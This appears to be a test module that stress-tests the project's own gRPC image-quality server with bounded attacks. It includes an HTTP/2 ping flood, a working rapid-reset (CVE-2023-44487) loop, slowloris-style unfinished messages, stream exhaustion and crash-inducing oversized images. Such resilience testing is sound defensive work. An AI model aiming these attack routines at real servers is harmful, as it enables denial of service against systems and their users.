"""Attacks on a server of ours on this machine, each a bounded load from a process of its own.

    python -m tests.under_fire.attacks NAME TARGET METRICS_URL SECONDS

Every loop ends at its time; rates are bounded so that the attacker, which shares the machine with the server,
does not starve it by its own processor time. Prints as JSON how often each outcome came.
"""

from __future__ import annotations

import asyncio
import json
import os
import struct
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator, Sequence
from contextlib import contextmanager, suppress
from pathlib import Path
from urllib.parse import urlsplit

import aiohttp
import grpc
import h2.config
import h2.connection
import h2.events

from facegauge.v1 import quality_pb2 as pb
from facegauge.v1 import quality_pb2_grpc
from tests.under_fire.pictures import jpeg_of, noise_jpeg, png_of

__all__ = ["ATTACKS", "ON_BUSY_MACHINE", "ON_QUIET_MACHINE", "Attacking", "start_attack"]

METHOD = "/facegauge.v1.QualityService/MonitorStream"
MIB = 2**20
BEGUN = "begun\n"
ON_BUSY_MACHINE = ("nice", "-n", "10")
"""Runs the attacker so that it gets its share where other programs compete for the cores."""
ON_QUIET_MACHINE = ("chrt", "--idle", "0")
"""Runs it so that calls pay for what the server does with an attack, and not for what it costs to attack."""
BIG_MESSAGES = [("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]


class Battle:
    """What an attack needs: where the server is, until when to attack, and a count of outcomes."""

    def __init__(self, target: str, metrics_url: str, duration_s: float) -> None:
        self.target = target
        self.metrics_url = metrics_url
        self.until_s = time.monotonic() + duration_s
        self.outcomes: Counter[str] = Counter()

    @property
    def goes_on(self) -> bool:
        return time.monotonic() < self.until_s

    @property
    def left_s(self) -> float:
        return max(0.1, self.until_s - time.monotonic())

    def channel(self) -> grpc.aio.Channel:
        return grpc.aio.insecure_channel(self.target, options=BIG_MESSAGES)

    async def count(self, call: Awaitable[object]) -> None:
        """Await a call and count how it ended."""
        try:
            await asyncio.wait_for(call, self.left_s)
            self.outcomes["OK"] += 1
        except grpc.aio.AioRpcError as error:
            self.outcomes[error.code().name] += 1
        except TimeoutError:
            self.outcomes["cut off by the attacker"] += 1
        except (OSError, aiohttp.ClientError) as error:
            self.outcomes[type(error).__name__] += 1


Attack = Callable[[Battle], Awaitable[None]]


async def ping_flood(battle: Battle) -> None:
    """Four connections send HTTP/2 pings, some thousands a second."""
    await asyncio.gather(*(_pings(battle) for _ in range(4)))


async def rapid_reset(battle: Battle) -> None:
    """Four connections open streams and cancel them at once (CVE-2023-44487)."""
    await asyncio.gather(*(_resets(battle) for _ in range(4)))


async def streams_without_config(battle: Battle) -> None:
    """Thousands of streams are opened over ten connections and say nothing."""
    channels = [battle.channel() for _ in range(10)]
    calls = [battle.count(_silent_stream(channels[n % 10])) for n in range(5000)]
    await asyncio.gather(*calls)


async def huge_pictures(battle: Battle) -> None:
    """Thirty-two callers have pictures of 9.4 megapixels assessed, again and again."""
    await _assess_pictures(battle, noise_jpeg(4096, 2304, quality=30), callers=32)


async def long_pictures(battle: Battle) -> None:
    """Sixty callers send 16 MiB that are no picture."""
    await _assess_pictures(battle, b"\xff\xd8" + bytes(16 * MIB - 2), callers=60)


async def scrapers(battle: Battle) -> None:
    """Thirty-two scrapers ask for the metrics without a pause."""

    async def scrape(session: aiohttp.ClientSession) -> None:
        async with session.get(battle.metrics_url) as response:
            await response.read()

    async with aiohttp.ClientSession() as session:
        await _repeat(battle, lambda: scrape(session), callers=32, pause_s=0.02)


async def idle_metrics_connections(battle: Battle) -> None:
    """Five hundred connections to the metrics port ask for nothing."""
    address = urlsplit(battle.metrics_url)

    async def connect() -> None:
        _, writer = await asyncio.open_connection(address.hostname, address.port)
        await asyncio.sleep(battle.left_s)
        writer.close()

    await asyncio.gather(*(battle.count(connect()) for _ in range(500)))


async def first_messages(battle: Battle) -> None:
    """Forty connections begin a stream with 16 MiB that are no configuration."""
    request = pb.MonitorStreamRequest(frame=pb.Frame(data=bytes(16 * MIB - 64)))

    async def begin() -> None:
        async with battle.channel() as channel:
            call = quality_pb2_grpc.QualityServiceStub(channel).MonitorStream()
            with suppress(asyncio.InvalidStateError):
                await call.write(request)
            await call.read()
            await call.code()
            battle.outcomes[(await call.code()).name] += 1

    await _repeat(battle, begin, callers=40, pause_s=0.05)


async def thin_pictures(battle: Battle) -> None:
    """Two live streams of the thinnest pictures, as fast as they are answered."""
    await asyncio.gather(*(_stream(battle, f"thin-{n}", jpeg_of(8000, 1)) for n in range(2)))


async def worst_shapes(battle: Battle) -> None:
    """Four live streams of large pictures without a face, in the shapes that need the most searching."""
    shapes = ((8192, 1024), (1024, 8192), (4096, 2304), (3840, 1080))
    await asyncio.gather(*(_stream(battle, f"shape-{n}", jpeg_of(*shape)) for n, shape in enumerate(shapes)))


async def killers(battle: Battle) -> None:
    """Eight live streams of pictures that made native code abort or take memory without end."""
    pictures = (png_of(32767, 32), png_of(32, 32767), png_of(65500, 3), png_of(1, 1), jpeg_of(1, 65000))
    await asyncio.gather(*(_stream(battle, f"killer-{n}", pictures[n % len(pictures)]) for n in range(8)))


async def vanishing_clients(battle: Battle) -> None:
    """Clients open streams, send a frame and vanish without a word, leaving their streams behind."""
    number = 0
    while battle.goes_on:
        channels = [battle.channel() for _ in range(10)]
        for channel in channels:
            number += 1
            call = quality_pb2_grpc.QualityServiceStub(channel).MonitorStream()
            config = pb.StreamConfig(stream_id=f"vanishing-{os.getpid()}-{number}")
            with suppress(grpc.aio.AioRpcError, asyncio.InvalidStateError):
                await call.write(pb.MonitorStreamRequest(config=config))
                await call.read()
                battle.outcomes["opened"] += 1
        for channel in channels:
            await channel.close(grace=None)
        await asyncio.sleep(0.1)


async def large_messages(battle: Battle) -> None:
    """Twenty-four streams of the largest messages allowed, every one admitted; half of them drop nothing."""
    deliveries = (pb.DELIVERY_LIVE, pb.DELIVERY_COMPLETE)
    data = b"\xff\xd8" + bytes(16 * MIB - 2)
    await asyncio.gather(*(_pour(battle, f"large-{n}", data, deliveries[n % 2]) for n in range(24)))


async def frame_floods(battle: Battle) -> None:
    """Four live streams of small frames, as fast as the server takes them."""
    data = jpeg_of(64, 48)
    await asyncio.gather(*(_pour(battle, f"flood-{n}", data, pb.DELIVERY_LIVE) for n in range(4)))


async def unfinished_messages(battle: Battle) -> None:
    """Forty connections with five admitted streams each; all send a message of 16 MiB but its end."""
    await asyncio.gather(*(_unfinished(battle, f"unfinished-{n}", streams=5) for n in range(40)))


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        ping_flood,
        rapid_reset,
        streams_without_config,
        huge_pictures,
        long_pictures,
        scrapers,
        idle_metrics_connections,
        first_messages,
        large_messages,
        frame_floods,
        unfinished_messages,
        thin_pictures,
        worst_shapes,
        killers,
        vanishing_clients,
    )
}


class Attacking:
    """An attack that goes on."""

    def __init__(self, process: subprocess.Popen[str]) -> None:
        self._process = process

    def outcomes(self, timeout_s: float) -> dict[str, int]:
        """Wait until it is over; return how often each outcome came."""
        output, _ = self._process.communicate(timeout=timeout_s)
        outcomes: dict[str, int] = json.loads(output)
        return outcomes


@contextmanager
def start_attack(
    name: str, target: str, metrics_url: str, duration_s: float, give_way: Sequence[str] = ON_BUSY_MACHINE
) -> Iterator[Attacking]:
    """Attack a server for a time, from a process that gives way to it; the block begins with the attack."""
    command = [sys.executable, "-m", "tests.under_fire.attacks", name, target, metrics_url, str(duration_s)]
    with subprocess.Popen(
        [*give_way, *command],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
        cwd=Path(__file__).parents[2],
    ) as process:
        try:
            assert process.stdout is not None
            assert process.stdout.readline() == BEGUN
            yield Attacking(process)
        finally:
            process.kill()


async def _repeat(
    battle: Battle, call: Callable[[], Awaitable[object]], callers: int, pause_s: float
) -> None:
    async def one() -> None:
        while battle.goes_on:
            await battle.count(call())
            await asyncio.sleep(pause_s)

    await asyncio.gather(*(one() for _ in range(callers)))


async def _assess_pictures(battle: Battle, data: bytes, callers: int) -> None:
    channels = [battle.channel() for _ in range(8)]
    stubs = [quality_pb2_grpc.QualityServiceStub(channel) for channel in channels]
    request = pb.AssessImageRequest(encoding=pb.FRAME_ENCODING_JPEG, data=data)
    turn = iter(range(10**9))

    async def assess() -> None:
        await stubs[next(turn) % len(stubs)].AssessImage(request)

    await _repeat(battle, assess, callers, pause_s=0.05)


async def _silent_stream(channel: grpc.aio.Channel) -> None:
    call = quality_pb2_grpc.QualityServiceStub(channel).MonitorStream()
    await call.read()
    code = await call.code()
    if code is not grpc.StatusCode.OK:
        raise grpc.aio.AioRpcError(code, grpc.aio.Metadata(), grpc.aio.Metadata())


async def _stream(battle: Battle, stream_id: str, data: bytes) -> None:
    """Send a picture whenever the last one is answered, at most 60 times a second."""
    encoding = pb.FRAME_ENCODING_PNG if data.startswith(b"\x89PNG") else pb.FRAME_ENCODING_JPEG
    while battle.goes_on:
        async with battle.channel() as channel:
            call = quality_pb2_grpc.QualityServiceStub(channel).MonitorStream()
            try:
                await call.write(
                    pb.MonitorStreamRequest(config=pb.StreamConfig(stream_id=stream_id, encoding=encoding))
                )
                await call.read()
                sequence = 0
                while battle.goes_on:
                    frame = pb.Frame(sequence=sequence, capture_time_s=sequence / 30, data=data)
                    await call.write(pb.MonitorStreamRequest(frame=frame))
                    response = await asyncio.wait_for(
                        call.read(), max(0.1, battle.until_s - time.monotonic())
                    )
                    if not isinstance(response, pb.MonitorStreamResponse):
                        break
                    battle.outcomes[pb.FrameResult.Name(response.assessment.result)] += 1
                    sequence += 1
                    await asyncio.sleep(1 / 60)
            except grpc.aio.AioRpcError as error:
                battle.outcomes[error.code().name] += 1
                await asyncio.sleep(0.1)
            except (TimeoutError, asyncio.InvalidStateError):
                battle.outcomes["unanswered"] += 1


async def _pour(battle: Battle, stream_id: str, data: bytes, delivery: pb.Delivery.ValueType) -> None:
    """Send frames as fast as the server takes them, and read every answer."""

    async def write(
        call: grpc.aio.StreamStreamCall[pb.MonitorStreamRequest, pb.MonitorStreamResponse],
    ) -> None:
        sequence = 0
        while battle.goes_on:
            frame = pb.Frame(sequence=sequence, capture_time_s=sequence / 30, data=data)
            await call.write(pb.MonitorStreamRequest(frame=frame))
            battle.outcomes["messages"] += 1
            sequence += 1

    while battle.goes_on:
        async with battle.channel() as channel:
            call = quality_pb2_grpc.QualityServiceStub(channel).MonitorStream()
            with suppress(asyncio.InvalidStateError, TimeoutError):
                try:
                    config = pb.StreamConfig(stream_id=stream_id, delivery=delivery)
                    await call.write(pb.MonitorStreamRequest(config=config))
                    await call.read()
                    writing = asyncio.create_task(write(call))
                    async with asyncio.timeout(battle.left_s):
                        while await call.read() is not grpc.aio.EOF:
                            pass
                    writing.cancel()
                except grpc.aio.AioRpcError as error:
                    battle.outcomes[error.code().name] += 1
                    await asyncio.sleep(0.1)


async def _unfinished(battle: Battle, name: str, streams: int) -> None:
    """Open a connection, and leave the last bytes of one message a stream unsent, for as long as it lives."""
    number = 0
    while battle.goes_on:
        reader, writer, connection = await _connect(battle)
        number += 1
        left: dict[int, int] = {}
        for index in range(streams):
            stream = connection.get_next_available_stream_id()
            connection.send_headers(stream, _headers(battle))
            config = pb.StreamConfig(stream_id=f"{name}-{number}-{index}")
            message = pb.MonitorStreamRequest(config=config).SerializeToString()
            connection.send_data(stream, struct.pack(">BI", 0, len(message)) + message)
            connection.send_data(stream, struct.pack(">BI", 0, 16 * MIB))
            left[stream] = 16 * MIB - 1
        with suppress(OSError, h2.exceptions.ProtocolError, TimeoutError):
            async with asyncio.timeout(battle.left_s):
                while True:
                    for stream in left:
                        room = min(connection.local_flow_control_window(stream), left[stream], 64 * 16_384)
                        while room > 0:
                            piece = min(room, connection.max_outbound_frame_size)
                            connection.send_data(stream, bytes(piece))
                            left[stream] -= piece
                            room -= piece
                            battle.outcomes["KiB"] += piece // 1024
                    writer.write(connection.data_to_send())
                    await writer.drain()
                    if not (data := await reader.read(65536)):
                        break
                    for event in connection.receive_data(data):
                        if isinstance(event, h2.events.StreamEnded | h2.events.StreamReset):
                            left.pop(event.stream_id, None)
                            battle.outcomes["streams ended by the server"] += 1
        battle.outcomes["connections"] += 1
        writer.close()
        await asyncio.sleep(0.1)


def _headers(battle: Battle) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", METHOD),
        (":authority", battle.target),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    ]


async def _connect(
    battle: Battle,
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter, h2.connection.H2Connection]:
    host, _, port = battle.target.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    connection.initiate_connection()
    writer.write(connection.data_to_send())
    return reader, writer, connection


async def _pings(battle: Battle) -> None:
    while battle.goes_on:
        reader, writer, connection = await _connect(battle)
        reading = asyncio.create_task(_discard(reader))
        with suppress(OSError):
            while battle.goes_on and not reading.done():
                for _ in range(20):
                    connection.ping(os.urandom(8))
                battle.outcomes["pings"] += 20
                writer.write(connection.data_to_send())
                await writer.drain()
                await asyncio.sleep(0.01)
        battle.outcomes["connections"] += 1
        reading.cancel()
        writer.close()
        await asyncio.sleep(0.05)


async def _resets(battle: Battle) -> None:
    headers = _headers(battle)
    while battle.goes_on:
        reader, writer, connection = await _connect(battle)
        reading = asyncio.create_task(_discard(reader))
        with suppress(OSError, h2.exceptions.ProtocolError):
            while battle.goes_on and not reading.done():
                for _ in range(20):
                    stream = connection.get_next_available_stream_id()
                    connection.send_headers(stream, headers)
                    connection.reset_stream(stream)
                battle.outcomes["resets"] += 20
                writer.write(connection.data_to_send())
                await writer.drain()
                await asyncio.sleep(0.01)
        battle.outcomes["connections"] += 1
        reading.cancel()
        writer.close()
        await asyncio.sleep(0.05)


async def _discard(reader: asyncio.StreamReader) -> None:
    while await reader.read(65536):
        pass


def main(name: str, target: str, metrics_url: str, duration_s: str) -> None:
    """Run one attack and print its outcomes."""
    sys.stdout.write(BEGUN)
    sys.stdout.flush()
    battle = Battle(target, metrics_url, float(duration_s))

    async def run() -> None:
        with suppress(TimeoutError):
            await asyncio.wait_for(ATTACKS[name](battle), float(duration_s) + 5)

    asyncio.run(run())
    sys.stdout.write(json.dumps(battle.outcomes))


if __name__ == "__main__":
    main(*sys.argv[1:])
